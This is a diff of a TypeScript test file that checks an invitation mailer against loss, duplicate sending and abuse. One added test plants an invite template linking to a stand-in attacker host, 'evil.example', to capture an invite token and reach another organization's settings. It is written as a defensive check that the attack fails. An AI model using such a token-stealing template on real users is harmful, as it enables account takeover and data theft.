@@ -1,60 +1,35 @@
-/** Attacks on mail: to whom it goes, whether it gets lost, what it writes into logs. */
-import { mkdtemp } from "node:fs/promises";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
-import pino from "pino";
+/** No invitation is lost, mailed twice or sent to somebody else, and none lets its sender into what is not theirs. */
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { fileMailer } from "../../../src/platform/mail/files.ts";
-import type { Mail } from "../../../src/platform/mail/mail.ts";
-import {
-  createProjectionGroup,
-  type ProjectionGroup,
-} from "../../../src/projections/engine/group.ts";
-import { mailCodes } from "../../../src/commands/sign-in/code-mailer.ts";
+import type { ProjectionGroup } from "../../../src/projections/engine/group.ts";
 import { mailInvitations } from "../../../src/commands/members/invitation-mailer.ts";
-import { outgoingInvitations } from "../../../src/projections/invitations/invitations.ts";
+import { patience } from "../../support/eventually.ts";
 import { startTestService, type TestService } from "../../support/http.ts";
+import { keepMails, startInvitations } from "../../support/mailing.ts";
 
 let service: TestService;
 let group: ProjectionGroup;
 let members: string;
-const mails: Mail[] = [];
-const mailing = {
-  mailer: {
-    async send(mail: Mail) {
-      mails.push(mail);
-    },
-    forget: async () => undefined,
-    close: async () => undefined,
-  },
-  sender: "Muster <muster@localhost>",
-  onResult: () => undefined,
-};
+const { mails, mailing } = keepMails();
 beforeAll(async () => {
   service = await startTestService();
-  const { pool, store, codec, log } = service.services;
-  const { connection } = service.database;
-  group = createProjectionGroup({
-    projection: outgoingInvitations,
-    connection,
-    pool,
-    store,
-    codec,
-    log,
-  });
-  group.start();
+  group = startInvitations(service);
   members = `/v1/organizations/${service.organizationId}/members`;
 });
+
 afterAll(async () => {
   await group.stop();
   await service.stop();
 });
-const caughtUp = async () => group.waitFor(await service.services.store.lastPosition(), 5000);
+
+const caughtUp = async () => group.waitFor(await service.services.store.lastPosition(), patience);
 const invite = (email: string) =>
   service.call("POST", members, {
     token: service.owner,
     body: { email, firstName: "A", lastName: "B" },
   });
+
+const as = (token: string, method: string, path: string, body?: unknown) =>
+  service.call(method, path, { token, body });
 
 test("an invitation goes to the address as it was first registered, as codes do: it opens a session of that person", async () => {
   const { userId } = await service.addMember("ADMIN", { email: "bob@example.com" });
@@ -98,19 +73,56 @@ test("a mail is not lost because the read models lag behind", async () => {
   expect(mails.filter(({ to }) => to === "lagging@example.com")).toHaveLength(1);
 });
 
-test("addresses and codes stay out of the log, also where mail goes into files", async () => {
-  const lines: string[] = [];
-  const log = pino({ level: "info" }, { write: (line: string) => void lines.push(line) });
-  const folder = join(await mkdtemp(join(tmpdir(), "zz-")), "mail");
-  const mailer = fileMailer(folder, mailing.sender, service.clock.now, log);
-  await service.call("POST", "/v1/sign-in", { body: { email: "owner@example.com" } });
-  await mailCodes(service.services, { ...mailing, mailer });
-  expect(lines.join("")).toContain("a mail was written");
-  expect(decodeURIComponent(lines.join(""))).not.toContain("owner@example.com");
+test("who invites somebody known does not get at their other organizations by a template of their own", async () => {
+  // The victim owns the first organization. The attacker has signed up: any stranger may.
+  const attacker = await service.addMember("CREATOR");
+  const made = await as(attacker.session, "POST", "/v1/organizations", { name: "Evil" });
+  const evil = `/v1/organizations/${made.body.organizationId}`;
+  const saved = await as(attacker.session, "PUT", `${evil}/invite-templates/en`, {
+    subject: "You are invited",
+    html: '<a href="https://evil.example/catch?{inviteLink}">Join</a>',
+  });
+  await as(attacker.session, "POST", `${evil}/members`, {
+    email: "owner@example.com",
+    firstName: "O",
+    lastName: "W",
+  });
+  await group.waitFor(await service.services.store.lastPosition(), 5000);
+  await mailInvitations(service.services, mailing);
+  // The victim follows the one link of the page; the attacker's script reads location.hash there.
+  const href = /href="([^"]*)"/.exec(
+    mails.find(({ to }) => to === "owner@example.com")?.html ?? "",
+  );
+  const link = new URL(href?.[1] ?? "http://none.example");
+  const token = link.hostname === "evil.example" ? link.hash.replace("#token=", "") : "none";
+  const taken = await service.call("POST", "/v1/invites/accept", { body: { token } });
+  const loot =
+    taken.status === 200
+      ? await as(
+          taken.body.sessionToken,
+          "GET",
+          `/v1/organizations/${service.organizationId}/settings`,
+        )
+      : undefined;
+  expect({ saved: saved.status, taken: taken.status, loot: loot?.status }).not.toEqual({
+    saved: 200,
+    taken: 200,
+    loot: 200,
+  });
 });
 
-test("a template without the link, or with the link in its subject, is refused", async () => {
-  const path = `/v1/organizations/${service.organizationId}/invite-templates/de`;
-  const put = (body: object) => service.call("PUT", path, { token: service.owner, body });
-  expect((await put({ subject: "{inviteLink}", html: "{inviteLink}" })).status).toBe(400);
+test("several instances mail each invitation once", async () => {
+  const path = `/v1/organizations/${service.organizationId}/members/batch`;
+  const people = Array.from({ length: 60 }, (_, index) => ({
+    email: `many-${index}@example.com`,
+    firstName: "M",
+    lastName: `${index}`,
+  }));
+  const done = await as(service.owner, "POST", path, { members: people });
+  expect(done.status).toBe(207);
+  await group.waitFor(await service.services.store.lastPosition(), 5000);
+  await Promise.all([1, 2, 3, 4].map(() => mailInvitations(service.services, mailing)));
+  const sent = mails.filter(({ to }) => to.startsWith("many-")).map(({ to }) => to);
+  expect(sent.length).toBe(60);
+  expect(new Set(sent).size).toBe(60);
 });
